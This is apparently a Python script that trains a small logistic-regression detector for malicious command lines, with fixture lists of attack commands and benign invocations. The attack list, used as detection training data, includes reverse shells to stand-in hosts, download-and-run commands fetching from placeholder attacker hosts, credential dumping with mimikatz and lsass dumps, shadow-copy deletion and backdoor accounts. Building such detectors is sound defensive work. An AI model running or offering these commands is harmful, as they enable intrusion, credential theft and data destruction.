#!/usr/bin/env python
"""Train the in-repo AMIDES misuse-detection model.

Reference intent: /root/reference/logprep/processor/amides/detection.py
(a trained sklearn classifier scores normalized command lines). The
sandbox has no sklearn and no model zip, so this script trains a small
logistic regression with plain numpy over HASHED TOKEN COUNTS (hashing
trick; DIM buckets, currently 256) using public-knowledge fixtures:
command-line
patterns that well-known SIEM rules (Sigma process_creation family)
target, vs. ordinary benign process invocations.

Normalization mirrors the reference CommandLineNormalizer
(normalize.py:36-60, features.py:87-186): strip dummy chars ["^`'],
lowercase, \\w+ tokenize, drop (hex-)numeric tokens longer than 3 and
any token longer than 30.

Weights are quantized to integer MICRO-units so the decision margin is
exact integer math — reproducible bit-for-bit in any engine (the DuckDB
oracle recomputes it in SQL). Output: logprep_spark/operators/
amides_model.json, loaded by the scoring pandas_udf.

Run: python tools/train_amides.py  (deterministic; commit the JSON)
"""

from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path

import numpy as np

DIM = 256
_DUMMY = re.compile(r"[\"\^`\u2019]")
_TOKEN = re.compile(r"\w+", re.ASCII)
_NUMERIC = re.compile(r"^(?:0x)?[0-9a-f]{4,}$")

# --- fixtures: public attack tradecraft (Sigma-rule territory) ----------
MALICIOUS = [
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3",
    "powershell -noprofile -executionpolicy bypass -command iex (new-object net.webclient).downloadstring('http://evil/a')",
    "powershell.exe -windowstyle hidden -noni -nop -c iex(iwr http://bad.host/payload.ps1)",
    "cmd.exe /c powershell -enc aQBlAHgAIAAoAG4AZQB3",
    "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
    "rundll32.exe c:\\users\\public\\payload.dll,DllMain",
    "regsvr32 /s /n /u /i:http://evil.host/file.sct scrobj.dll",
    "certutil.exe -urlcache -split -f http://malicious.site/a.exe c:\\temp\\a.exe",
    "certutil -decode encoded.b64 payload.exe",
    "mshta.exe vbscript:createobject(\"wscript.shell\").run(\"powershell -enc aabb\")",
    "mshta http://evil.host/app.hta",
    "wmic process call create \"powershell -nop -enc bwBw\"",
    "wmic /node:target process call create cmd.exe",
    "bitsadmin /transfer job /download /priority high http://bad/payload.exe c:\\temp\\p.exe",
    "vssadmin delete shadows /all /quiet",
    "wevtutil cl security",
    "wevtutil.exe cl system",
    "bcdedit /set {default} recoveryenabled no",
    "schtasks /create /tn updater /tr c:\\users\\public\\evil.exe /sc minute /mo 1 /ru system",
    "net user backdoor P@ssw0rd1 /add",
    "net localgroup administrators backdoor /add",
    "whoami /priv",
    "nltest /domain_trusts /all_trusts",
    "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit",
    "procdump.exe -accepteula -ma lsass.exe lsass.dmp",
    "rundll32.exe comsvcs.dll, MiniDump 624 c:\\temp\\lsass.dmp full",
    "reg save hklm\\sam c:\\temp\\sam.hive",
    "reg add hkcu\\software\\microsoft\\windows\\currentversion\\run /v upd /t reg_sz /d c:\\users\\public\\evil.exe",
    "wscript.exe c:\\users\\public\\dropper.vbs",
    "cscript //e:jscript c:\\programdata\\payload.txt",
    "msiexec /q /i http://evil.host/installer.msi",
    "curl http://malicious.site/sh.sh -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x",
    "wget -q http://bad.host/x.elf -O /dev/shm/x && /dev/shm/x",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444))'",
    "nc -e /bin/sh 10.0.0.5 4444",
    "powershell -c \"add-mppreference -exclusionpath c:\\\"",
    "powershell set-mppreference -disablerealtimemonitoring $true",
    "esentutl.exe /y /vss c:\\windows\\ntds\\ntds.dit /d c:\\temp\\ntds.dit",
    "ntdsutil \"ac i ntds\" ifm \"create full c:\\temp\" q q",
    "dsquery * -filter (objectclass=user) -attr samaccountname",
    "adfind.exe -f objectcategory=computer",
    "psexec \\\\target -u admin -p pass -s cmd.exe",
    "wmic shadowcopy delete",
    "fsutil usn deletejournal /d c:",
    "attrib +h +s c:\\users\\public\\evil.exe",
    "icacls c:\\windows\\system32\\sethc.exe /grant everyone:f",
    "takeown /f c:\\windows\\system32\\utilman.exe",
]

BENIGN = [
    "c:\\windows\\system32\\svchost.exe -k netsvcs -p -s schedule",
    "c:\\windows\\system32\\svchost.exe -k localservice -p",
    "c:\\program files\\google\\chrome\\application\\chrome.exe --type=renderer --lang=en-us",
    "c:\\program files\\mozilla firefox\\firefox.exe -contentproc -childid 4",
    "c:\\windows\\explorer.exe",
    "c:\\windows\\system32\\dllhost.exe /processid:{3eb3c877-1f16-487c-9050-104dbcd66683}",
    "c:\\windows\\system32\\searchindexer.exe /embedding",
    "c:\\program files\\microsoft office\\root\\office16\\winword.exe /n c:\\users\\alice\\report.docx",
    "c:\\program files\\microsoft office\\root\\office16\\excel.exe /dde",
    "c:\\windows\\system32\\taskhostw.exe {222a245b-e637-4ae9-a93f-a59ca119a75e}",
    "c:\\windows\\system32\\conhost.exe 0xffffffff -forcev1",
    "c:\\windows\\system32\\wuauclt.exe /updatedeploymentprovider /classid",
    "c:\\program files\\windowsapps\\microsoft.windowsterminal\\wt.exe",
    "git status",
    "git pull origin main",
    "git commit -m update readme",
    "python manage.py runserver 127.0.0.1:8000",
    "python -m pytest tests -q",
    "node server.js --port 3000",
    "npm install --save-dev eslint",
    "java -xmx2g -jar app.jar --spring.profiles.active=prod",
    "gradle build --no-daemon",
    "mvn clean install -dskiptests",
    "docker compose up -d web db",
    "kubectl get pods -n production",
    "ssh deploy@build-server uptime",
    "rsync -avz ./dist/ deploy@web01:/var/www/html/",
    "tar -czf backup.tar.gz /var/lib/app/data",
    "systemctl status nginx.service",
    "journalctl -u app.service --since today",
    "grep -r todo src --include=*.py",
    "make -j8 all",
    "cargo build --release",
    "go test ./...",
    "code c:\\users\\bob\\projects\\webapp",
    "notepad.exe c:\\users\\carol\\notes.txt",
    "c:\\program files\\7-zip\\7z.exe a archive.7z c:\\users\\dave\\docs",
    "c:\\windows\\system32\\spoolsv.exe",
    "c:\\program files\\common files\\microsoft shared\\clicktorun\\officeclicktorun.exe /service",
    "ping -n 4 intranet.corp.local",
    "ipconfig /all",
    "netstat -ano",
    "robocopy c:\\users\\eve\\docs d:\\backup\\docs /mir /r:1",
    "powershell get-childitem c:\\logs | sort-object lastwritetime",
    "powershell -file c:\\scripts\\nightly-report.ps1",
    "cmd.exe /c dir c:\\users",
    "cmd /c echo build ok",
    "sc query winmgmt",
    "git checkout -b feature/new-dashboard",
    "git merge --no-ff release/2.4",
    "git log --oneline origin/main..head",
    "npm run build --workspace frontend",
    "yarn start --port 8080",
    "pip install -r requirements.txt",
    "dotnet build src/webapi.csproj -c release",
    "c:\\program files\\microsoft vs code\\code.exe --folder-uri c:\\repos\\app",
    "c:\\program files\\google\\chrome\\application\\chrome.exe --type=utility --utility-sub-type=network",
    "c:\\program files (x86)\\microsoft\\edge\\application\\msedge.exe --profile-directory=default",
    "outlook.exe /recycle",
    "teams.exe --process-start-args --system-initiated",
    "onedrive.exe /background /setautostart",
    "curl -s https://api.github.com/repos/apache/spark/releases/latest",
    "aws s3 sync ./build s3://deploy-artifacts/app --delete",
    "terraform plan -var-file=prod.tfvars -out=plan.bin",
    "psql -h db.internal -u app -c select count(*) from users",
    "redis-cli -h cache.internal info memory",
    "git push --set-upstream origin feature/payments-page",
    "git fetch --prune origin",
    "curl -fss https://status.internal/login/health",
    "node node_modules/.bin/webpack --config webpack.prod.js --progress",
]


def normalize(cmdline: str) -> list[str]:
    s = _DUMMY.sub("", cmdline).lower()
    toks = _TOKEN.findall(s)
    return [t for t in toks if len(t) <= 30 and not _NUMERIC.match(t)]


def bucket(token: str) -> int:
    return int(hashlib.md5(token.encode()).hexdigest()[:8], 16) % DIM


def featurize(cmdline: str) -> np.ndarray:
    x = np.zeros(DIM)
    for t in normalize(cmdline):
        x[bucket(t)] += 1.0
    return x


def variants(lines: list[str]) -> list[str]:
    """Deterministic augmentation: case noise, path/user renames, and
    argument whitespace — the kinds of trivial evasion AMIDES is meant
    to be robust to."""
    out = []
    for line in lines:
        out.append(line)
        out.append(line.upper())
        out.append(line.replace("c:\\", "d:\\").replace("/tmp/", "/var/tmp/"))
        out.append(line.replace(" ", "  "))
        out.append('"' + line.replace(" ", '" "') + '"')
    return out


def train(x: np.ndarray, y: np.ndarray, epochs: int = 4000, lr: float = 0.3, l2: float = 1e-3):
    rng = np.random.default_rng(42)
    w = rng.normal(0, 0.01, x.shape[1])
    b = 0.0
    n = len(y)
    for _ in range(epochs):
        z = x @ w + b
        p = 1.0 / (1.0 + np.exp(-z))
        grad_w = x.T @ (p - y) / n + l2 * w
        grad_b = float(np.mean(p - y))
        w -= lr * grad_w
        b -= lr * grad_b
    return w, b


def main():
    mal = variants(MALICIOUS)
    ben = variants(BENIGN)
    x = np.stack([featurize(c) for c in mal + ben])
    y = np.array([1.0] * len(mal) + [0.0] * len(ben))
    w, b = train(x, y)
    pred = (x @ w + b) > 0
    acc = float(np.mean(pred == (y > 0.5)))

    model = {
        "algo": "logistic_regression_hashing_trick",
        "dim": DIM,
        "token_hash": "int(md5(token)[:8], 16) % dim",
        "normalizer": {"max_num_values_length": 3, "max_str_length": 30},
        "bias_micros": int(round(b * 1e6)),
        "weights_micros": [int(round(v * 1e6)) for v in w],
        "n_train": int(len(y)),
        "n_malicious": int(len(mal)),
        "train_accuracy": acc,
    }
    out = Path(__file__).resolve().parent.parent / "logprep_spark" / "operators" / "amides_model.json"
    out.write_text(json.dumps(model, indent=1))
    print(f"wrote {out}  train_accuracy={acc:.4f}")


if __name__ == "__main__":
    main()
